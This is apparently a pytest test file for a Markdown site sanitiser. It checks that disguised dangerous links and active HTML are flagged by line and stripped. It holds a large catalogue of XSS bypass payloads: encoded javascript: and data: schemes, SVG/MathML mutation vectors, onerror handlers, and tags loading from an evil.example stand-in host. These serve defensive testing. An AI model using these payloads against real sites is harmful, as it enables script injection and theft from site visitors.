"""Markup that would act: the check names it at its line, and the cleaner leaves nothing of it."""

import re
from pathlib import Path

import markdown
import pytest

from explainer.pages.clean import cleaned, findings
from explainer.site.addresses import SAFE_SCHEMES
from explainer.site.markup import ATTRIBUTES, TAGS
from tests.hostile.active import active
from tests.site.oracle import EXTENSIONS
from tests.sites import REPOSITORY, run, write
from tests.whole import faults

SCHEMES = [
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    "javascript&colon;hit(1)",
    "javascript&#58;hit(1)",
    "javascript&#x3A;hit(1)",
    "javascript&#0000058hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A;avascript:hit(1)",
    "&#0000106avascript:hit(1)",
    "java&Tab;script:hit(1)",
    "java&NewLine;script:hit(1)",
    "java&#x0A;script:hit(1)",
    "java&#173;script:hit(1)",
    "java\u00adscript:hit(1)",
    "java\u200dscript:hit(1)",
    "java\u2028script:hit(1)",
    "&#1;javascript:hit(1)",
    "&#x2028;javascript:hit(1)",
    "%6Aavascript:hit(1)",
    "%256Aavascript:hit(1)",
    "javascript%3Ahit(1)",
    "javascript%253Ahit(1)",
    "javascript://example.org/%0Ahit(1)",
    "vbscript:hit(1)",
    "&#118;bscript:hit(1)",
    "livescript:hit(1)",
    "mocha:hit(1)",
    "data:text/html,x",
    "dAtA:text/html;base64,PHN2Zz4=",
    "&#100;ata:text/html,x",
    "data&#58;image/svg+xml,x",
    "%64ata:text/html,x",
    "data:,x",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "filesystem:https://example.org/1",
    "view-source:javascript:hit(1)",
    "feed:javascript:hit(1)",
    "jar:https://example.org!/x",
    "intent://x",
    "ms-msdt:x",
    "about:blank",
    "chrome://x",
    "wyciwyg://x",
    "ws://example.org/",
]
"""Addresses that no link may have, as their authors try to hide them."""

PLACES = [
    "[a]({})",
    "[a](<{}>)",
    "[a]({} 'title')",
    "![a]({})",
    "[a][b]\n\n[b]: {}",
    "![a][b]\n\n[b]: <{}>",
    "> [a]: {}\n\n[a]",
    "- x\n\n    [a]({})",
    "| x |\n|---|\n| [a]({}) |",
    "x[^1]\n\n[^1]: [a]({})",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a\nhref={}>x</a>",
    '<img src="{}" alt="">',
    '<blockquote cite="{}">x</blockquote>',
    '<ins cite="{}">x</ins>',
    "[a](x){{: href='{}' }}",
    "*x*{{ src='{}' }}",
    '<div markdown="1">\n\n[a]({})\n\n</div>',
]
"""Where an address can stand."""

VECTORS = """
<svg><script>hit(1)</script></svg>
<svg><script href="x.js"/></svg>
<svg><a xlink:href="javascript:hit(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,x#x"/></svg>
<svg><use xlink:href="//evil.example/x.svg#x"/></svg>
<svg><set attributeName="onmouseover" to="hit(1)"/></svg>
<svg><animate xlink:href="#a" attributeName="href" values="javascript:hit(1)"/></svg>
<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>
<svg><style>@import "//evil.example"</style></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="hit(1)"></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">
<math href="javascript:hit(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hit(1)">x
<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>
<meta http-equiv="refresh" content="0;url=javascript:hit(1)">
<META HTTP-EQUIV=Set-Cookie CONTENT=x>
<meta name=referrer content=unsafe-url>
<base href="https://evil.example/">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example>
<img src='https://evil.example/?
<a href='https://evil.example/?
<a target='
<textarea>
<select><option>
<button form=x formaction=//evil.example>
<form action=//evil.example><input name=a>
<input type=image src=//evil.example/x.png>
<input autofocus onfocus=hit(1)>
<title>x
<style>*{display:none}</style>
<style>@import'//evil.example'</style>
<p style="position:fixed;inset:0">x</p>
<p style=background:url(//evil.example)>x</p>
<p class="md-overlay">x</p>
<p class="a x-marks">x</p>
<p class="X-Preview">x</p>
*x*{.x-marks}
*x*{: class="md-dialog" }
<p id="__search">x</p>
<p id=xSearch>x</p>
<p hidden popover>x</p>
<p contenteditable autofocus>x</p>
<p tabindex=1 accesskey=x>x</p>
<p is="x-y">x</p>
<p slot=x>x</p>
<x-y>x</x-y>
<div shadowrootmode=open>x</div>
<template shadowrootmode=open><script>hit(1)</script></template>
<iframe srcdoc="<script>hit(1)</script>">
<IFRAME SRC=x>
<frameset onload=hit(1)>
<object data="javascript:hit(1)">
<embed src=x>
<applet code=x></applet>
<portal src=x></portal>
<fencedframe src=x></fencedframe>
<dialog open>x</dialog>
<marquee onstart=hit(1)>x</marquee>
<isindex type=image src=1 onerror=hit(1)>
<noembed><img src=x onerror=hit(1)>
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<xmp><img src=x onerror=hit(1)>
<listing><img src=x onerror=hit(1)></listing>
<plaintext>
<video src=x></video>
<video><source onerror=hit(1)></video>
<audio src=x onerror=hit(1)>
<track src=x>
<picture><source srcset=//evil.example/x></picture>
<img srcset="https://evil.example/x 1x">
<img src="https://evil.example/x.png">
<img src="//evil.example/x.png">
<img src="\\\\evil.example/x.png">
<img src="/\\evil.example/x.png">
<img src="&#47;/evil.example/x.png">
<img src="ht&Tab;tps://evil.example/x.png">
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](HTTP://evil.example/x.png)
![x](<https://evil.example/x y.png>)
![a [b] c](https://evil.example/x.png "t")
[![x](https://evil.example/x.png)](y)
![x][p]

[p]: https://evil.example/x.png
![P][]

[p]: //evil.example/x.png
*x*{: src=https://evil.example/x.png }
<a href="x" ping="https://evil.example">x</a>
<a href="x" target=_blank>x</a>
<td background="javascript:hit(1)">x</td>
<script>hit(1)</script>
<script/src=x></script>
<script src="//evil.example/x.js"></script>
<<script>hit(1)//<</script>
</script><script>hit(1)</script>
<scr<script>ipt>hit(1)</script>
<b <script>hit(1)</script>0
<img src=x:hit(alt) onerror=eval(src) alt=0>
<img \"\"\"><script>hit(1)</script>">
<img/src=x onerror=hit(1)>
<img src=x onerror = hit(1)>
<img src=x onerror
=hit(1)>
<a href="x" onclick=hit(1)>y</a>
<div onpointerrawupdate=hit(1)>x</div>
<details open ontoggle=hit(1)>x</details>
<body onload=hit(1)>
<html onclick=hit(1)>
<!DOCTYPE html [<!ENTITY x "y">]>
<?xml-stylesheet href="javascript:hit(1)"?>
<![CDATA[<script>hit(1)</script>]]>
<!--<img src="--><img src=x onerror=hit(1)//">
<!--><script>hit(1)</script>-->
<comment><img src="</comment><img src=x onerror=hit(1)//">
<p title="</p><img src=x onerror=hit(1)>">y</p>
<ahref="x" href="javascript:hit(1)">x</a>
*x*{onclick=hit(1)}
*x*{: .a onclick='hit(1)' }
*x*{ style="position:fixed" }
# H {: onclick=hit(1)}
| b {: onclick=hit(1)} |
- item {: onclick=hit(1)}
[^1]: <script>hit(1)</script>
*[HTML]: <script>hit(1)</script>
"""
LONGER = [
    '``` {onclick="hit(1)"}\nx\n```',
    "~~~ {.a onclick=hit(1)}\nx\n~~~",
    "``` {.x-marks}\nx\n```",
    "<div markdown onclick=hit(1)>\ny\n</div>",
    '<div markdown="1">\n<script>hit(1)</script>\n</div>',
]
LIST = [text for text in re.split(r"\n(?=[<!\[*#|-])(?!\[p\])", VECTORS) if text] + LONGER
GIVEN = [place.format(address) for place in PLACES for address in SCHEMES]


def is_taken_apart(text: str) -> bool:
    """Say whether Markdown made words of what looked like an address or markup."""
    html = markdown.markdown(text, extensions=EXTENSIONS)
    return findings(html) == [] and active(html) == []


@pytest.mark.parametrize("place", PLACES)
def test_no_address_acts_in_any_disguise(place: str) -> None:
    """Entities, control characters, case, percent signs: wherever a link or a picture can stand."""
    missed = []
    for address in SCHEMES:
        text = place.format(address)
        if not faults(f"-- page.md --\n{text}\n", "unsafe-markup") and not is_taken_apart(text):
            missed.append(text)
    assert missed == []


@pytest.mark.parametrize("address", SCHEMES)
def test_a_plain_link_with_such_an_address_is_named(address: str) -> None:
    """At the address."""
    [problem] = faults(f"-- page.md --\nFirst.\n\nSee [a]({address}).\n", "unsafe-markup")
    assert (problem.place.line, problem.place.column) == (3, 9)


@pytest.mark.parametrize("text", LIST)
def test_markup_that_acts_is_named(text: str) -> None:
    """At its own line, as a page and as the prose of an entry."""
    lines = {p.place.line for p in faults(f"-- page.md --\nFirst.\n\n{text}\n", "unsafe-markup")}
    assert lines
    assert min(lines) >= 3
    entry = f"-- people/ada.md --\n---\ntitle: A\nsummary: S.\n---\nFirst.\n\n{text}\n"
    assert {p.place.line - 4 for p in faults(entry, "unsafe-markup")} == lines


def test_the_list_is_taken_apart_as_it_should_be() -> None:
    """A test of nothing would pass as well."""
    assert len(LIST) > 120
    assert len(GIVEN) > 800


@pytest.mark.parametrize("text", LIST)
def test_what_is_cleaned_does_not_act(text: str) -> None:
    """The second lock alone: it knows no Markdown, and another parser finds nothing in it."""
    html = markdown.markdown(text, extensions=EXTENSIONS)
    for dirty in (html, text):
        clean = cleaned(dirty)
        assert active(clean) == []
        assert findings(clean) == []
        assert active(cleaned(clean)) == []


def test_cleaned_addresses_do_not_act() -> None:
    """In every place and disguise."""
    for text in GIVEN:
        clean = cleaned(markdown.markdown(text, extensions=EXTENSIONS))
        assert active(clean) == [], text


@pytest.mark.parametrize(
    "text",
    [
        "![x](a.png) ![y](../b/c.jpg) ![z](/d.webp)",
        "[a](https://example.org/x.png) and <https://example.org/y.png>",
        "[![x](a.png)](https://example.org/)",
        "[a]: https://example.org/x.png\n\n[a] ![b](c.png)",
        "`![x](https://example.org/x.png)`",
        "    ![x](https://example.org/x.png)\n",
        "\\![x](a.png) !\n[x](https://example.org/)",
        '<p class="note extra" id="x-1">text</p>',
        "*x*{.note #y-x}",
        "# X marks the spot",
    ],
)
def test_honest_markup_is_left_alone(text: str) -> None:
    assert faults(f"-- page.md --\n{text}\n", "unsafe-markup") == []
    assert findings(markdown.markdown(text, extensions=EXTENSIONS)) == []


def test_the_second_lock_stops_a_build_by_itself(tmp_path: Path) -> None:
    """What only an extension makes of the text, the first lock cannot know."""
    write(
        tmp_path,
        "mkdocs.yml",
        "site_name: S\nplugins: [search, explainer]\n"
        "markdown_extensions: [attr_list, abbr, extension]\n",
    )
    write(
        tmp_path,
        "extension.py",
        (
            "from markdown.extensions import Extension\n"
            "from markdown.postprocessors import Postprocessor\n\n\n"
            "class Post(Postprocessor):\n"
            "    def run(self, text):\n"
            "        return text.replace('SPELL', '<img src=x onerror=hit(1)>')\n\n\n"
            "class Spell(Extension):\n"
            "    def extendMarkdown(self, md):\n"
            "        md.postprocessors.register(Post(md), 'spell', 0)\n\n\n"
            "def makeExtension(**kwargs):\n"
            "    return Spell(**kwargs)\n"
        ),
    )
    write(tmp_path, "docs/index.md", "# A\n\nSPELL\n")
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(tmp_path))
        done = run("build", cwd=tmp_path)
    assert done.status == 1
    assert "docs/index.md:1:1: error: the attribute onerror of <img> is not allowed" in done.err
    assert not (tmp_path / "site").exists()


def listed_in_architecture(name: str) -> set[str]:
    """Return the words of a line of the list in ARCHITECTURE.md."""
    text = (REPOSITORY / "ARCHITECTURE.md").read_text("utf-8")
    found = re.search(rf"^\| {name} \| (?P<words>[^|]*) \|$", text, re.MULTILINE)
    assert found, name
    return set(re.findall(r"`([^`]+)`", found["words"]))


def test_architecture_lists_what_prose_may_hold() -> None:
    """Elements, attributes and schemes: the code's lists are the document's."""
    assert listed_in_architecture("elements") == TAGS
    assert listed_in_architecture("attributes") == ATTRIBUTES | {"aria-*"}
    assert listed_in_architecture("schemes of addresses") == SAFE_SCHEMES
